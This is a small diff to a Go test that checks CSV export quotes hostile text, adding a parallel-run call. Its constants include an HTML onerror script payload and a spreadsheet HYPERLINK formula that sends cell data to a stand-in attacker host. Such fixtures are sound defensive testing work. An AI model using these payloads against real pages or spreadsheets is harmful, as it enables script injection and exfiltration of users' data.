@@ -20,6 +20,7 @@ import (
 // quoted in the CSV so that no spreadsheet evaluates them, while a negative number stays a
 // number.
 func TestHostileText(t *testing.T) {
+	t.Parallel()
 	const (
 		markup  = `<img src=x onerror=alert(1)>`
 		formula = `=HYPERLINK("https://evil.ex/?"&A1,"x")`
